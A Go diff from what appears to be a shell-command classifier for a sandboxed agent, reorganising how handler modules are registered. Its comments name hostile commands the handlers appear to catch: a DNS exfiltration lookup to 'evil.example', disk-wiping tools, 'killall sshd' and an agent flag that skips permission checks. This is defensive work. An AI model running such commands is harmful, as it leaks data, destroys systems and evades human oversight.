@@ -30,31 +30,29 @@ func loadPrograms() {
 		addGitHandlers(handlers)
 		addNetHandlers(handlers)
 		addTextHandlers(handlers)
-		addEcosystemHandlers(handlers)       // ecosystems.go: refines some of the above
-		addBuildVerbHandlers(handlers)       // buildverbs.go: build tools by verb class
-		addMoreBuildHandlers(handlers)       // buildverbs_more.go: sbt, just, nix
-		addTestRunnerHandlers(handlers)      // testrunners.go: bats, cucumber, behave
-		addDevToolHandlers(handlers)         // devtools.go: generators, formatters, linters
-		addPrivToolHandlers(handlers)        // privtools.go: setcap, mount
-		addEverydayHandlers(handlers)        // everyday.go: lipo, codesign, php -m, loopback wget and nc
-		addOwnershipHandlers(handlers)       // ownership.go: chown outside the workspace
-		addEditorHandlers(handlers)          // editors.go: vim -c, ex, emacs --eval
-		addDiskHandlers(handlers)            // diskwipe.go: mke2fs, sgdisk -Z, blkdiscard
-		addContainerWipes(handlers)          // containerwipe.go: docker volume rm, compose down -v
-		addRunnerInnerHandlers(handlers)     // runner_inner.go: mix run -e, elixir -e
-		addRunnerWrapHandlers(handlers)      // runnerwraps.go: rimraf
-		addInlineRunnerHandlers(handlers)    // inlinerunners.go: deno eval, bun -e, apply_patch
-		addLocalDBHandlers(handlers)         // localdb.go: psql, mysql, createdb, dbmate against the sandbox's loopback
-		addContainerBuildHandlers(handlers)  // containerbuild.go: docker build and inspect in the sandbox; build --push
-		addBuildSubToolHandlers(handlers)    // mvnexec.go: mvn exec:java, help:effective-pom
-		addDotnetToolHandlers(handlers)      // dotnettools.go: dotnet csharpier, dotnet tool run reportgenerator
-		addKillHandlers(handlers)            // killtargets.go: pkill -u $USER, killall sshd
-		addDNSHandlers(handlers)             // dnsexfil.go: dig $(whoami).evil.example
-		addTextToolHandlers(handlers)        // texttools.go: iconv, bc, history
-		handlers["gotestsum"] = gotestsumCmd // gotestsum.go: go test behind a formatter
-		for _, n := range []string{"claude", "codex", "gemini", "aider"} {
-			handlers[n] = agentCLICmd // agentcli.go: claude --dangerously-skip-permissions
-		}
+		addEcosystemHandlers(handlers)      // ecosystems.go: refines some of the above
+		addBuildVerbHandlers(handlers)      // buildverbs.go: build tools by verb class
+		addMoreBuildHandlers(handlers)      // buildverbs_more.go: sbt, just, nix
+		addTestRunnerHandlers(handlers)     // testrunners.go: bats, cucumber, behave
+		addDevToolHandlers(handlers)        // devtools.go: generators, formatters, linters
+		addPrivToolHandlers(handlers)       // privtools.go: setcap, mount
+		addEverydayHandlers(handlers)       // everyday.go: lipo, codesign, php -m, loopback wget and nc
+		addOwnershipHandlers(handlers)      // ownership.go: chown outside the workspace
+		addEditorHandlers(handlers)         // editors.go: vim -c, ex, emacs --eval
+		addDiskHandlers(handlers)           // diskwipe.go: mke2fs, sgdisk -Z, blkdiscard
+		addContainerWipes(handlers)         // containerwipe.go: docker volume rm, compose down -v
+		addRunnerInnerHandlers(handlers)    // runner_inner.go: mix run -e, elixir -e
+		addRunnerWrapHandlers(handlers)     // runnerwraps.go: rimraf
+		addInlineRunnerHandlers(handlers)   // inlinerunners.go: deno eval, bun -e, apply_patch
+		addLocalDBHandlers(handlers)        // localdb.go: psql, mysql, createdb, dbmate against the sandbox's loopback
+		addContainerBuildHandlers(handlers) // containerbuild.go: docker build and inspect in the sandbox; build --push
+		addBuildSubToolHandlers(handlers)   // mvnexec.go: mvn exec:java, help:effective-pom
+		addDotnetToolHandlers(handlers)     // dotnettools.go: dotnet csharpier, dotnet tool run reportgenerator
+		addKillHandlers(handlers)           // killtargets.go: pkill -u $USER, killall sshd
+		addDNSHandlers(handlers)            // dnsexfil.go: dig $(whoami).evil.example
+		addTextToolHandlers(handlers)       // texttools.go: iconv, bc, history
+		addGotestsumHandlers(handlers)      // gotestsum.go: go test behind a formatter
+		addAgentCLIHandlers(handlers)       // agentcli.go: claude --dangerously-skip-permissions
 		programs.handlers, programs.codeRunners = handlers, codeRunners
 	})
 }
